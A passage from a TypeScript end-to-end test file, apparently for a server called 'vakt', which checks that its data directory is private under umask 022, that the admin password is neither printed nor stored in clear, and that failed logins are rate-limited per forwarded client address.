    const root = mkdtempSync(join(tmpdir(), 'vakt-private-'));
    const dataDir = join(root, 'data');
    try {
      // 1. First start (with the demo feed, so chdb parts, watches.json and the delivery log all exist).
      const port = await freePortPair();
      const first = await upUnderUmask022(dataDir, port);
      const password = /log in as admin \/ (\S+)/.exec(first.stderr())?.[1];
      expect(password, first.stderr()).toBeDefined();
      expect(await login(`http://127.0.0.1:${port}`, password!)).toBe(200);
      await waitFor(
        'the demo feed stored in chdb',
        async () =>
          modesUnder(join(dataDir, 'clickhouse')).filter(
            (e) => e.path.includes('/store/') && e.path.endsWith('data.bin'),
          ).length,
        (n) => n > 0,
        60_000,
      );
      await first.stop();
      const entries = modesUnder(dataDir);
      const open = entries
        .filter((e) => (e.mode & 0o077) !== 0)
        .map((e) => `${e.mode.toString(8)} ${e.path.slice(dataDir.length)}`);
      recordFigures({
        fault: 'vakt up data dir under umask 022',
        accepted: entries.length,
        lost: open.length,
        doubled: 0,
        recoveryMs: 0,
        notes: `${entries.length} files and directories, ${open.length} readable by group/other`,
      });
      expect(open).toEqual([]);
      for (const f of ['users.json', 'watches.json', 'alerter/deliveries.jsonl', 'secrets/session-secret'])
        expect(existsSync(join(dataDir, f)), f).toBe(true);
      expect(modesUnder(dataDir)[0]!.mode).toBe(0o700);
      expect(filesContaining(dataDir, password!)).toEqual([]);

      // 2. Second start (a clear copy an earlier version kept is deleted): nothing printed, the password still works.
      writeFileSync(join(dataDir, 'secrets', 'admin-password'), `${password}\n`, { mode: 0o600 });
      const second = await upUnderUmask022(dataDir, port, {}, ['--no-demo']);
      expect(second.stderr()).toContain('log in as admin\n');
      expect(second.stderr()).not.toContain(password!);
      expect(await login(`http://127.0.0.1:${port}`, password!)).toBe(200);
      await second.stop();
      expect(filesContaining(dataDir, password!)).toEqual([]);

      // 3. A password supplied by the operator is never printed. Behind a trusted proxy (item 11), a client's failed
      // logins use up its own address's budget (30 per 15 min), not everyone's.
      const supplied = 'operator-chosen-passphrase-16';
      const third = await upUnderUmask022(
        join(root, 'other'),
        port,
        { VAKT_ADMIN_PASSWORD: supplied, VAKT_TRUST_PROXY: '127.0.0.1' },
        ['--no-demo'],
      );
      expect(third.stderr()).not.toContain(supplied);
      const base = `http://127.0.0.1:${port}`;
      const from = (xff: string, username: string, password: string) =>
        fetch(`${base}/api/login`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-forwarded-for': xff },
          body: JSON.stringify({ username, password }),
        }).then((r) => r.status);
      const sprayed: number[] = [];
      for (let i = 0; i < 30; i++) sprayed.push(await from('203.0.113.9', `guess${i}`, 'wrong'));
      expect(sprayed.every((s) => s === 401)).toBe(true);
      expect(await from('203.0.113.9', 'admin', supplied)).toBe(429);
      expect(await from('198.51.100.4', 'admin', supplied)).toBe(200);
      expect(await login(base, supplied)).toBe(200);
      await third.stop();
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
